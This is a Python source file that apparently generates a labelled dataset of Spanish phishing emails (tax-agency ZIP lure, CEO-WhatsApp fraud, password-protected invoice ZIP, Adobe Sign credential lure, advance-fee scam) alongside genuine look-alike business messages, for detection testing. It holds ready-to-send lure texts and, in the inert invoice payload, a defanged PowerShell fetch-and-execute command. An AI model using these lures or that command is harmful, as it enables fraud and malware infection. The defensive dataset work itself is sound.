"""Spanish messages: attack 27-31, business 27-31."""
from .msg import Msg
from .core import utc, plus, rfcdate, Text, Binary, Multi, guid, hexs, alnum, epoch
from . import systems as S, platforms as P, mk, docs, ident, org, arch, html as H
from .org import p
from .bodies import boundary

ES_E = org.ENTITIES[3]
CIF_EX = ES_E['ids'][0][1]


def _pick(text):
    for c in ('iso-8859-1', 'windows-1252', 'utf-8'):
        try:
            text.encode(c)
            return c
        except UnicodeEncodeError:
            pass


def a27():
    m = Msg('attack', '27-es-aeat-dehu-dropbox')
    m.t = utc(2026, 11, 18, 8, 37, 12)
    m.frm = ('Agencia Tributaria - Notificaciones', 'avisos@agenciatributaria-notifica.es')
    m.to = [p('javier.ruiz')]
    m.subject = 'Notificación electrónica disponible - Ref. 2026N47118352R - EXAMPLE HELICOPTEROS ESPAÑA SL'
    link = m.url('https://www.dropbox.com/scl/fi/k3v9q2x7hz1m0c4/Notificacion_AEAT_2026N47118352R.zip?rlkey=t8w2n5p1c7r4y6u0s3d9f2g5h&dl=1',
                 'Dropbox-hosted ZIP (malware loader in the real campaign)')
    html, plain = H.notif([
        ('h', 'Notificación pendiente de comparecencia'),
        ('p', 'Estimado contribuyente:'),
        ('p', 'Le comunicamos que la Agencia Estatal de Administración Tributaria ha puesto a su disposición una '
              'notificación relativa a un procedimiento de comprobación limitada (Modelo 303, 3T 2026).'),
        ('kv', [('Titular', 'EXAMPLE HELICOPTEROS ESPAÑA SL'), ('NIF', CIF_EX), ('Referencia', '2026N47118352R'),
                ('Fecha de puesta a disposición', '18/11/2026')]),
        ('p', 'Dispone de un plazo de 10 días naturales para acceder al contenido. Transcurrido dicho plazo, la '
              'notificación se entenderá practicada a todos los efectos legales (art. 43 Ley 39/2015).'),
        ('btn', 'Descargar notificación', link),
        ('small', 'El documento se encuentra comprimido para su protección. Este mensaje se ha generado automáticamente, '
                  'por favor no responda.\nAgencia Tributaria - Calle Infanta Mercedes 37, 28020 Madrid')],
        brand='Agencia Tributaria', color='#8b1a1a', lang='es', title='Agencia Tributaria')
    m.body = mk.client(m, 'java', plain, html, cs='utf-8')
    m.raw = S.ses(m, 'agenciatributaria-notifica.es')
    m.meta['what'] = 'Tax agency notification (DEHú style) with a "download notification" link to a ZIP on Dropbox'
    m.meta['why'] = ('Malware-delivery phishing: look-alike sender domain via Amazon SES, link to a ZIP hosted on Dropbox '
                     '(real campaigns deliver MSI/VBS loaders this way), legal deadline; real DEHú notices never link to '
                     'files (business/27)')
    return m


def b27():
    m = Msg('business', '27-es-dehu-aviso-notificacion')
    m.t = utc(2026, 11, 10, 9, 12, 5)
    m.frm = ('DEHú - Dirección Electrónica Habilitada única', 'notificaciones.dehu@correo.gob.es')
    m.to = [p('javier.ruiz')]
    m.subject = 'Aviso de puesta a disposición de notificación'
    u = m.url('https://dehu.redsara.es', 'official DEHú portal (typed address)')
    text = ('Estimado/a Sr./Sra.:\n\n'
            'Le informamos de que tiene a su disposición una nueva notificación en la Dirección Electrónica Habilitada '
            'única (DEHú).\n\n'
            'Titular: EXAMPLE HELICOPTEROS ESPAÑA SL - %s\nOrganismo emisor: Agencia Estatal de Administración Tributaria\n'
            'Concepto: Requerimiento de información - IVA 3T 2026\nFecha de puesta a disposición: 10/11/2026\n\n'
            'Para acceder a su contenido, identifíquese en %s con certificado electrónico o Cl@ve. Dispone de 10 días '
            'naturales desde la puesta a disposición.\n\n'
            'Este aviso se envía únicamente a efectos informativos y no contiene el documento ni enlaces de descarga.\n\n'
            'Secretaría General de Administración Digital\nMinisterio para la Transformación Digital y de la Función Pública'
            % (CIF_EX, u))
    m.body = Text('plain', text, 'ISO-8859-1', 'quoted-printable')
    r = m.rng
    m.msgid = '<%d.%d.%d.JavaMail.dehu@notifica-dehu-04>' % (r.randint(10 ** 6, 10 ** 7), r.randint(100, 999), epoch(m.t) * 1000)
    msg = S.std_msg_headers(m, ('Date', 'From', 'To', 'Message-ID', 'Subject'), charset='ISO-8859-1', enc='Q', mime_first=True)
    inner = [('Received', 'from notifica-dehu-04 (unknown [10.251.%d.%d])\r\n\tby correo.gob.es (Postfix) with ESMTP id %s\r\n\t'
              'for <javier.ruiz@example.com>; %s' % (r.randint(1, 99), r.randint(1, 250), S.postfix_qid(r, m.t),
                                                    rfcdate(plus(m.t, 1), 'DE', 'postfix')))]
    m.raw = S.relay(m, 'mta02.correo.gob.es', '192.0.2.113', 'correo.gob.es', inner=inner, msg_headers=msg, selector='gob',
                    mail_from='notificaciones.dehu@correo.gob.es', dmarc_policy='reject')
    m.meta['what'] = 'DEHú notice that the tax agency made a notification available (information request, VAT Q3)'
    m.meta['why'] = ('Genuine government notice from correo.gob.es (auth pass), tells the user to log in at the known '
                     'portal with certificate/Cl@ve, explicitly contains no documents or download links')
    m.meta['pair'] = ['27']
    m.meta['topic'] = 'Spanish tax agency / DEHú notification'
    m.meta['pair_note'] = 'No download link; attack links to a ZIP on Dropbox'
    return m


def a28():
    m = Msg('attack', '28-es-ceo-whatsapp')
    m.t = utc(2026, 11, 26, 16, 51, 33)
    m.frm = ('Johannes Brandl', 'j.brandl.ceo@outlook.com')
    m.to = [p('lucia.fernandez')]
    m.subject = 'Consulta'
    text = ('Hola Lucía,\n\n¿Estás en la oficina? Necesito que me facilites tu número de móvil, tengo que comentarte un '
            'asunto confidencial y prefiero hacerlo por WhatsApp. Por favor, no lo comentes con nadie de momento.\n\n'
            'Gracias,\nJohannes Brandl\n\nEnviado desde mi iPhone')
    S.exo_prepare(m, consumer=True)
    m.body = mk.client(m, 'exo', text, H.outlook_html(text, 'ES'), cs='iso-8859-1')
    m.raw = S.exo(m, 'outlook.com', consumer=True, lang='es-ES')
    m.meta['what'] = 'The CEO asks the Spanish office manager for her mobile number to discuss a confidential matter on WhatsApp'
    m.meta['why'] = ('First stage of CEO fraud moving the victim to WhatsApp: free Outlook.com address in the CEO\'s name, '
                     'secrecy, no link/attachment at all (the CEO writes to Spanish staff in English or through the office; '
                     'staff mobile numbers are collected internally, business/28)')
    return m


def b28():
    m = Msg('business', '28-es-interno-telefonos-guardia')
    m.t = utc(2026, 12, 1, 10, 22, 47)
    m.frm = ('Lucía Fernández', 'lucia.fernandez@example.com')
    m.to = [('Equipo Madrid', 'madrid@example.com')]
    m.cc = [p('javier.ruiz')]
    m.subject = 'Guardias Navidad 2026: confirmad vuestro móvil en la lista antes del viernes'
    text = ('Hola a todos:\n\n'
            'Como cada año, Operaciones necesita la lista de guardias de Navidad con un móvil de contacto actualizado para '
            'cada persona de guardia (del 23/12 al 07/01). Os adjunto el cuadrante provisional.\n\n'
            'Por favor, revisad vuestras fechas y, si vuestro número de móvil ha cambiado, actualizadlo directamente en la '
            'ficha de empleado del portal (no hace falta que me lo mandéis por correo). Nadine, desde la Disposición en '
            'Augsburgo, creará como siempre el grupo de WhatsApp «Guardia Cuatro Vientos» a partir de esa lista.\n\n'
            'Cualquier cambio de turno, hablad conmigo antes del viernes 4.\n\n'
            'Gracias,\nLucía\n\n'
            'Lucía Fernández\nOffice Manager - Example Helicópteros España S.L.\nAeródromo de Cuatro Vientos, Hangar 12, '
            '28044 Madrid\nTel. +34 915 08 47 30')
    m.phone('+34 915 08 47 30', 'Madrid office')
    rows = [['Fecha', 'Piloto', 'Técnico', 'Coordinación'],
            ['23/12/2026', 'R. Castaño', 'M. Ibáñez', 'L. Fernández'], ['24/12/2026', 'D. Ortega', 'M. Ibáñez', 'J. Ruiz'],
            ['25/12/2026', 'D. Ortega', 'A. Prieto', 'J. Ruiz'], ['26/12/2026', 'R. Castaño', 'A. Prieto', 'L. Fernández'],
            ['31/12/2026', 'S. Velasco', 'M. Ibáñez', 'L. Fernández'], ['01/01/2027', 'S. Velasco', 'A. Prieto', 'J. Ruiz'],
            ['06/01/2027', 'D. Ortega', 'M. Ibáñez', 'L. Fernández']]
    xlsx = arch.make_xlsx(rows, 'Guardias', 'Guardias Navidad 2026', 'Lucía Fernández', 'Example Group',
                          '2026-11-30T16:12:00Z', '2026-12-01T09:58:00Z', col_widths=[14, 16, 16, 16], bold_rows=(0,))
    S.internal_prepare(m)
    cs = _pick(text)
    m.body = mk.client(m, 'exch', text, H.outlook_html(text, 'ES'), cs=cs,
                       attachments=[mk.att(m, 'exch', 'Guardias_Navidad_2026_CuatroVientos.xlsx', xlsx)])
    m.raw = S.internal(m, 'es-ES')
    m.meta['what'] = 'Spanish office manager circulates the Christmas on-call roster and asks staff to update mobile numbers'
    m.meta['why'] = ('Genuine internal message via Exchange/mail-int01 with an XLSX roster; mobile numbers are maintained in '
                     'the HR portal, the WhatsApp group is created by Operations - same topic as the WhatsApp CEO lure')
    m.meta['pair'] = ['28']
    m.meta['topic'] = 'Request for staff mobile numbers / WhatsApp'
    m.meta['pair_note'] = 'Internal, transparent purpose, numbers go to the HR portal, not by reply'
    return m


def a29():
    m = Msg('attack', '29-es-factura-zip-contrasena')
    m.t = utc(2026, 10, 20, 10, 48, 21)
    m.frm = ('Talleres Aeronáuticos del Jarama', 'administracion@talleresjarama.es')
    m.to = [p('javier.ruiz')]
    m.subject = 'Factura F-2026/0842 pendiente - documento protegido'
    pw = '0842'
    m.meta['zip_password'] = pw
    m.fact('ZIP password', pw, 'given in the message body')
    payload = ('Inert evaluation sample. In the real campaign this was a Windows shortcut (Factura_F-2026-0842.pdf.lnk) '
               'whose target ran "conhost --headless powershell -w h -c iwr hxxp://[loader host]/f.ps1 | iex".\r\n').encode()
    z = arch.make_zip([('Factura_F-2026-0842.pdf.lnk', payload, (2026, 10, 20, 10, 31, 40))], rng=m.rng, password=pw.encode())
    text = ('Buenos días,\n\nAdjuntamos la factura F-2026/0842 correspondiente a los trabajos de calibración de '
            'herramientas y llave dinamométrica realizados en su hangar de Cuatro Vientos, que a fecha de hoy figura como '
            'pendiente de pago.\n\nPor motivos de protección de datos el documento va comprimido con contraseña: %s\n\n'
            'Rogamos nos confirmen la fecha prevista de pago.\n\nUn saludo,\n\nAdministración\nTalleres Aeronáuticos del '
            'Jarama S.L.\nPol. Ind. Los Llanos, C/ Torno 8 - 28850 Torrejón de Ardoz (Madrid)\nTel. 916 77 42 18' % pw)
    m.phone('916 77 42 18', 'signature of the compromised company')
    m.msgid = '<%s@talleresjarama.es>' % hexs(m.rng, 32)
    m.body = mk.client(m, 'roundcube', text, None, cs='UTF-8', cte='8bit', flowed=True,
                       attachments=[mk.att(m, 'roundcube', 'Factura_F-2026-0842.zip', z)])
    m.raw = S.cpanel(m, 'srv07.hostingcloud-iberia.com', '203.0.113.47', 'talleresjarama.es', mua='roundcube',
                     user='administracion@talleresjarama.es', local=False, client_ip='198.51.100.188', lang='es',
                     dmarc_res='pass', dmarc_policy='none')
    m.meta['what'] = 'Small workshop sends an "overdue" invoice as a password-protected ZIP (password in the mail)'
    m.meta['why'] = ('Malware loader: encrypted ZIP (scanners cannot look inside) containing a .pdf.lnk shortcut '
                     '(represented inertly); the workshop\'s mailbox is compromised and used via Roundcube from a foreign '
                     'IP; the company never ordered calibration from them. Genuine encrypted ZIP: business/29')
    return m


def _payslip(name, nif, gross, net, month='noviembre 2026'):
    pdf, _ = docs.simple_pdf([[
        ('h', 'Recibo de salarios - %s' % month),
        ('kv', [('Empresa', 'EXAMPLE HELICOPTEROS ESPAÑA SL'), ('CIF', CIF_EX), ('CCC', '28/1248773/61'),
                ('Trabajador', name), ('NIF', nif), ('Periodo', '01/11/2026 - 30/11/2026')]),
        ('kv', [('Salario base', gross), ('Total devengado', gross), ('Cotización S.S. e IRPF', 'ver detalle'),
                ('Líquido a percibir', net)]),
        ('small', 'Gestoría Laboral Moncloa S.L. - documento generado con A3nom')]],
        dict(title='Recibo de salarios', author='Gestoria Laboral Moncloa', creator='A3nom', producer='A3nom PDF',
             created="D:20261127121500+01'00'"))
    return pdf


def b29():
    m = Msg('business', '29-es-gestoria-nominas-zip')
    m.t = utc(2026, 11, 27, 12, 41, 9)
    m.frm = ('Marta Gil - Gestoría Laboral Moncloa', 'marta.gil@gestoriamoncloa.es')
    m.to = [p('lucia.fernandez')]
    m.cc = [p('javier.ruiz')]
    m.subject = 'Nóminas noviembre 2026 - Example Helicópteros España (documentación cifrada)'
    pw = 'Cv4#Nom-1126'
    m.meta['zip_password'] = pw
    m.fact('ZIP password', pw, 'NOT in the mail: sent separately by SMS (recorded here only for verification)')
    files = []
    for i, (n, nif, g, net) in enumerate([('Fernández López, Lucía', ident.es_nif('50871234'), '3.150,00', '2.412,36'),
                                          ('Ruiz Martín, Javier', ident.es_nif('47719305'), '2.880,00', '2.231,05'),
                                          ('Ortega Sanz, Daniel', ident.es_nif('51238764'), '6.420,00', '4.318,77'),
                                          ('Ibáñez Gil, Manuel', ident.es_nif('09384517'), '3.310,00', '2.521,40')]):
        files.append(('Nomina_112026_%02d.pdf' % (i + 1), _payslip(n, nif, g, net), (2026, 11, 27, 12, 20 + i, 0)))
    files.append(('Resumen_costes_SS_112026.pdf', _payslip('RESUMEN', '-', '15.760,00', '11.483,58'), (2026, 11, 27, 12, 26, 0)))
    z = arch.make_zip(files, rng=m.rng, password=pw.encode())
    m.phone('+34 915 49 32 70', 'gestoría')
    text = ('Buenos días, Lucía:\n\n'
            'Os enviamos las nóminas de noviembre y el resumen de costes de Seguridad Social para su revisión antes del '
            'envío de los recibos a los trabajadores.\n\n'
            'Como siempre, el archivo va cifrado. La contraseña te la he enviado por SMS a tu móvil hace un momento; no la '
            'incluimos nunca en el correo. Si no te ha llegado, llámame al despacho (915 49 32 70) y te la doy por '
            'teléfono.\n\n'
            'Recordad que el plazo para comunicar incidencias de diciembre (horas extra de la campaña, bajas) es el día 18.\n\n'
            'Un saludo,\n\nMarta Gil\nDepartamento Laboral\nGestoría Laboral Moncloa S.L.\nC/ Princesa 61, 3º - 28008 Madrid\n'
            'Tel. +34 915 49 32 70')
    m.msgid = S.outlook_msgid(m, 'gestoriamoncloa.es')
    cs = _pick(text)
    m.body = mk.client(m, 'outlook', text, H.outlook_html(text, 'ES', charset=cs), cs=cs,
                       attachments=[mk.att(m, 'outlook', 'Nominas_112026_B88745195.zip', z)])
    m.raw = S.cpanel(m, 'srv41.hostalia-cloud.es', '192.0.2.141', 'gestoriamoncloa.es', mua='outlook',
                     user='marta.gil@gestoriamoncloa.es', local=False, client_ip='83.45.112.207', lang='es',
                     dmarc_res='pass', dmarc_policy='quarantine')
    m.meta['what'] = 'Payroll adviser sends November payslips as an encrypted ZIP; password sent by SMS'
    m.meta['why'] = ('Genuine: known adviser\'s domain via its cPanel host (auth pass), expected monthly payroll, password '
                     'delivered out of band (not in the mail), contents are PDFs')
    m.meta['pair'] = ['29', '37']
    m.meta['topic'] = 'Password-protected ZIP attachment'
    m.meta['pair_note'] = 'Encrypted ZIP with PDFs, password by SMS; the attacks put the password in the mail and hide a loader'
    return m


def _adobe_body(m, sender, doc, note, link):
    html, plain = H.notif([
        ('h', '%s le ha enviado «%s» para que lo firme.' % (sender, doc)),
        ('btn', 'Revisar y firmar', link),
        ('p', note),
        ('small', 'Tras firmar «%s», todas las partes recibirán una copia final por correo electrónico.' % doc),
        ('small', 'No reenvíe este correo electrónico. Si no desea firmar, puede delegar la firma en otra persona.\n'
                  'Powered by Adobe Acrobat Sign')],
        brand='Adobe Acrobat Sign', color='#1473e6', lang='es', title='Adobe Acrobat Sign')
    return Multi('alternative', [Text('plain', plain, 'UTF-8', 'quoted-printable'), Text('html', html, 'UTF-8', 'quoted-printable')],
                 boundary(m, 'java'))


def a30():
    m = Msg('attack', '30-es-adobe-sign-revision-salarial')
    m.t = utc(2026, 12, 10, 11, 5, 2)
    m.frm = ('RRHH Example Group via Adobe Acrobat Sign', 'adobesign@adobesign.com')
    m.reply_to = ('RRHH Example Group', 'rrhh.examplegroup@gmail.com')
    m.to = [p('lucia.fernandez')]
    m.subject = 'RRHH Example Group le ha enviado «Revisión salarial 2027 - Lucía Fernández» para que lo firme'
    link = m.url('https://secure.eu1.adobesign.com/public/apiesign?pid=CBFCIBAA3AAABLblqZhD%s&client_id=%s'
                 % (alnum(m.rng, 40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-'), alnum(m.rng, 16)),
                 'real Adobe Sign link; the agreement contains a link to a Microsoft 365 credential page')
    note = ('Estimada Lucía: le adjuntamos su carta de revisión salarial para 2027 y el nuevo anexo de retribución '
            'variable. Para visualizar el importe, acceda al documento con sus credenciales corporativas de Microsoft 365. '
            'Fecha límite de firma: 14/12/2026.')
    m.body = _adobe_body(m, 'RRHH Example Group', 'Revisión salarial 2027 - Lucía Fernández', note, link)
    m.raw = P.adobesign(m)
    m.meta['what'] = 'Adobe Acrobat Sign request from "RRHH Example Group": salary review 2027 to sign'
    m.meta['why'] = ('Abuse of a real e-signature platform: authentic adobesign.com mail, but the sender account is the '
                     'attacker\'s (Reply-To Gmail), HR lure about salary, the document asks for Microsoft 365 credentials; '
                     'the company does not run HR letters through Adobe Sign. Genuine Adobe Sign: business/30')
    return m


def b30():
    m = Msg('business', '30-es-adobe-sign-contrato-rodaje')
    m.t = utc(2026, 12, 4, 17, 20, 44)
    m.frm = ('Álvaro Serrano via Adobe Acrobat Sign', 'adobesign@adobesign.com')
    m.reply_to = ('Álvaro Serrano', 'alvaro.serrano@sierranorte-producciones.es')
    m.to = [p('lucia.fernandez')]
    m.subject = 'Álvaro Serrano le ha enviado «Contrato servicios aéreos - serie ALTAMAR - enero 2027» para que lo firme'
    link = m.url('https://secure.eu1.adobesign.com/public/apiesign?pid=CBFCIBAA3AAABLblqZhC%s&client_id=%s'
                 % (alnum(m.rng, 40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-'), alnum(m.rng, 16)),
                 'Adobe Sign agreement link')
    note = ('Hola Lucía, te mando el contrato con los cambios que hablamos el martes (dos días de reserva por meteo, '
            'cámara Shotover F1 por nuestra cuenta). Si lo ves bien, fírmalo y lo contrafirmamos el lunes. Un abrazo, Álvaro')
    m.body = _adobe_body(m, 'Álvaro Serrano', 'Contrato servicios aéreos - serie ALTAMAR - enero 2027', note, link)
    m.raw = P.adobesign(m)
    m.meta['what'] = 'Film production customer sends the aerial filming contract for signature via Adobe Acrobat Sign'
    m.meta['why'] = ('Genuine Adobe Sign request from a known customer, Reply-To the customer\'s own domain, refers to an '
                     'actual negotiation, no credential request')
    m.meta['pair'] = ['30']
    m.meta['topic'] = 'Adobe Acrobat Sign signature request'
    m.meta['pair_note'] = 'Known customer and expected contract; attack is an HR lure from an unknown account'
    return m


def a31():
    m = Msg('attack', '31-es-inversion-anticipo')
    m.t = utc(2026, 10, 8, 6, 12, 55)
    m.frm = ('Dr. Khalid Al Mansoori', 'khalid.almansoori.office@gmail.com')
    m.reply_to = ('Al Mansoori Capital', 'k.almansoori@almansoori-capital.com')
    m.to = [p('lucia.fernandez')]
    m.subject = 'Propuesta de financiación para la ampliación de su flota'
    m.phone('+971 52 381 4470', 'WhatsApp number of the "investor"')
    text = ('Estimado/a Director/a:\n\n'
            'Me llamo Dr. Khalid Al Mansoori y soy director de inversiones de Al Mansoori Capital Holdings, un family office '
            'con sede en Abu Dabi. Representamos a un grupo de inversores de los Emiratos Árabes Unidos interesados en '
            'financiar proyectos de aviación y servicios médicos de emergencia en Europa.\n\n'
            'Hemos analizado el perfil de su empresa y nos gustaría ofrecerle financiación de entre 5 y 50 millones de euros '
            'para la adquisición de helicópteros o la ampliación de sus bases, en forma de préstamo a 10 años con un interés '
            'fijo del 2 % anual y 24 meses de carencia, sin necesidad de aval bancario.\n\n'
            'El único requisito previo es el registro del acuerdo de préstamo ante la Cámara de Comercio de Dubái y la '
            'apertura del expediente por parte de nuestro despacho de abogados, cuyos costes (2.750 EUR) corren a cargo del '
            'beneficiario y se reembolsan íntegramente con el primer desembolso.\n\n'
            'Si está interesado, responda a este correo indicando el importe que necesita y un número de teléfono, o '
            'escríbame por WhatsApp al +971 52 381 4470.\n\nAtentamente,\n\nDr. Khalid Al Mansoori\nDirector de Inversiones\n'
            'Al Mansoori Capital Holdings\nAl Maryah Island, Abu Dabi, EAU')
    m.body = Multi('alternative', [Text('plain', text, 'UTF-8', 'quoted-printable'),
                                   Text('html', H.gmail_html(text), 'UTF-8', 'quoted-printable')], boundary(m, 'gmail'))
    m.zone = 'UTC'
    m.raw = S.gmail(m)
    m.meta['what'] = 'Abu Dhabi "family office" offers 5-50 M EUR fleet financing at 2 %; only registration costs of 2,750 EUR'
    m.meta['why'] = ('Advance-fee fraud tailored to a growing operator: unsolicited, too-good terms, upfront "registration" '
                     'fee, Gmail sender with Reply-To on another domain, move to WhatsApp')
    return m


def b31():
    m = Msg('business', '31-es-caisa-factura-combustible')
    m.t = utc(2026, 11, 2, 7, 4, 40)
    m.frm = ('CAISA - Facturación', 'facturacion@caisa-aviacion.es')
    m.to = [p('javier.ruiz')]
    m.subject = 'Factura FA26-004418 - suministro Jet A-1 octubre 2026 - EXAMPLE HELICOPTEROS ESPAÑA SL'
    iban = org.CAISA_IBAN
    ib = m.iban(iban, 'CAISA genuine account (Santander)')
    m.phone('+34 913 71 24 60', 'CAISA billing')
    text = ('Estimado cliente:\n\nLe remitimos la factura FA26-004418 correspondiente a los suministros de Jet A-1 realizados '
            'en octubre de 2026 en Cuatro Vientos y en las bases de la campaña de extinción, en formato PDF y en formato '
            'electrónico Facturae 3.2.2.\n\nImporte total: 18.934,57 EUR\nVencimiento: 01/12/2026 (domiciliación SEPA '
            'según mandato B2B vigente)\n\nPara cualquier aclaración puede contactar con nuestro departamento de facturación '
            'en el +34 913 71 24 60.\n\nAtentamente,\nDepartamento de Facturación\nCombustibles Aeronáuticos Ibéricos, S.A.\n'
            'Avda. de la Aviación 64 - 28054 Madrid')
    cif = ident.es_cif('A', '8127436')
    rows = [['1', 'Jet A-1 Cuatro Vientos (LECU), 14 suministros', '12.480 l', '0,9820', '12.255,36'],
            ['2', 'Jet A-1 base Cuenca (campaña INFOCA), 6 suministros', '3.210 l', '1,0140', '3.254,94'],
            ['3', 'Tasa de puesta a bordo / into-plane fee', '20', '11,50', '230,00'],
            ['4', 'Impuesto Especial Hidrocarburos (exento art. 51 LIE)', '-', '-', '0,00']]
    pdf, ptxt = docs.invoice_pdf(
        'Combustibles Aeronáuticos Ibéricos, S.A.', ['Avda. de la Aviación 64 · 28054 Madrid · CIF %s' % cif],
        ['EXAMPLE HELICOPTEROS ESPAÑA SL', 'Aeródromo de Cuatro Vientos, Hangar 12', '28044 Madrid', 'CIF %s' % CIF_EX],
        'Factura FA26-004418',
        [('Fecha', '31/10/2026'), ('Cliente', '10-4471'), ('Vencimiento', '01/12/2026'), ('Forma de pago', 'Domiciliación SEPA B2B')],
        ['Lín.', 'Concepto', 'Cantidad', 'Precio', 'Importe EUR'], rows,
        [('Base imponible', '15.740,30', False), ('IVA 21%', '3.305,46', False), ('Descuento pronto pago', '-111,19', False),
         ('Total factura', '18.934,57 EUR', True)],
        ['Cargo en cuenta del cliente según mandato SEPA B2B ref. CAISA-10-4471. Cuenta de CAISA para transferencias: %s '
         '(Banco Santander).' % ident.fmt_iban(iban)],
        [['Combustibles Aeronáuticos Ibéricos, S.A.', 'Inscrita en el R.M. de Madrid, T. 21.874, F. 112, H. M-389214'],
         ['CIF ' + cif]],
        dict(title='FA26-004418', author='CAISA', creator='SAP Business ByDesign', producer='SAP ByD Output Management',
             created="D:20261102075912+01'00'"), right_cols=(2, 3, 4), col_x=[50, 80, 320, 385, 460])
    m.meta['doc_texts'] = [ptxt]
    fx = ('<?xml version="1.0" encoding="UTF-8"?>\n<fe:Facturae xmlns:fe="http://www.facturae.gob.es/formato/Versiones/Facturaev3_2_2.xml" '
          'xmlns:ds="http://www.w3.org/2000/09/xmldsig#">\n<FileHeader><SchemaVersion>3.2.2</SchemaVersion><Modality>I</Modality>'
          '<InvoiceIssuerType>EM</InvoiceIssuerType><Batch><BatchIdentifier>%sFA26-004418</BatchIdentifier><InvoicesCount>1</InvoicesCount>'
          '<TotalInvoicesAmount><TotalAmount>18934.57</TotalAmount></TotalInvoicesAmount><TotalOutstandingAmount><TotalAmount>18934.57'
          '</TotalAmount></TotalOutstandingAmount><TotalExecutableAmount><TotalAmount>18934.57</TotalAmount></TotalExecutableAmount>'
          '<InvoiceCurrencyCode>EUR</InvoiceCurrencyCode></Batch></FileHeader>\n<Parties><SellerParty><TaxIdentification>'
          '<PersonTypeCode>J</PersonTypeCode><ResidenceTypeCode>R</ResidenceTypeCode><TaxIdentificationNumber>%s</TaxIdentificationNumber>'
          '</TaxIdentification><LegalEntity><CorporateName>Combustibles Aeronauticos Ibericos, S.A.</CorporateName></LegalEntity>'
          '</SellerParty><BuyerParty><TaxIdentification><PersonTypeCode>J</PersonTypeCode><ResidenceTypeCode>R</ResidenceTypeCode>'
          '<TaxIdentificationNumber>%s</TaxIdentificationNumber></TaxIdentification><LegalEntity><CorporateName>EXAMPLE '
          'HELICOPTEROS ESPANA SL</CorporateName></LegalEntity></BuyerParty></Parties>\n<Invoices><Invoice><InvoiceHeader>'
          '<InvoiceNumber>FA26-004418</InvoiceNumber><InvoiceDocumentType>FC</InvoiceDocumentType><InvoiceClass>OO</InvoiceClass>'
          '</InvoiceHeader><InvoiceIssueData><IssueDate>2026-10-31</IssueDate><InvoiceCurrencyCode>EUR</InvoiceCurrencyCode>'
          '<TaxCurrencyCode>EUR</TaxCurrencyCode><LanguageName>es</LanguageName></InvoiceIssueData><InvoiceTotals>'
          '<TotalGrossAmount>15740.30</TotalGrossAmount><TotalGeneralDiscounts>111.19</TotalGeneralDiscounts>'
          '<TotalTaxOutputs>3305.46</TotalTaxOutputs><InvoiceTotal>18934.57</InvoiceTotal><TotalOutstandingAmount>18934.57'
          '</TotalOutstandingAmount><TotalExecutableAmount>18934.57</TotalExecutableAmount></InvoiceTotals>'
          '<PaymentDetails><Installment><InstallmentDueDate>2026-12-01</InstallmentDueDate><InstallmentAmount>18934.57'
          '</InstallmentAmount><PaymentMeans>02</PaymentMeans><AccountToBeDebited><IBAN>%s</IBAN></AccountToBeDebited>'
          '</Installment></PaymentDetails></Invoice></Invoices>\n</fe:Facturae>\n' % (cif, cif, CIF_EX, org.ES_IBAN))
    m.iban(org.ES_IBAN, 'customer account to be debited (Example Spain, CaixaBank) in the Facturae XML')
    m.body = Multi('mixed', [Multi('alternative', [Text('plain', text, 'UTF-8', 'quoted-printable'),
                                                   Text('html', H.gmail_html(text), 'UTF-8', 'quoted-printable')],
                                   boundary(m, 'gmail')),
                             Binary('application/pdf', pdf, 'FA26-004418.pdf', 'attachment', fname_style='2047:UTF-8'),
                             Binary('application/xml', fx.encode('utf-8'), 'FA26-004418.xsig', 'attachment',
                                    fname_style='2047:UTF-8')], boundary(m, 'gmail'))
    m.raw = S.gmail(m, workspace_dom='caisa-aviacion.es', x_gm=False, dmarc_policy='quarantine')
    m.meta['what'] = 'Fuel supplier invoice for October Jet A-1 uplifts: PDF plus Facturae 3.2.2 XML, paid by SEPA direct debit'
    m.meta['why'] = ('Genuine supplier invoice from CAISA\'s Google Workspace (DKIM/DMARC pass), consistent PDF and '
                     'Facturae data, direct debit under an existing mandate - no request to change or send money')
    m.meta['pair'] = ['29']
    m.meta['topic'] = 'Supplier invoice by e-mail (Spain)'
    m.meta['pair_note'] = 'Plain PDF/XML invoice from a known supplier; attack invoice hides a loader in an encrypted ZIP'
    return m


ATTACK = [a27, a28, a29, a30, a31]
BUSINESS = [b27, b28, b29, b30, b31]
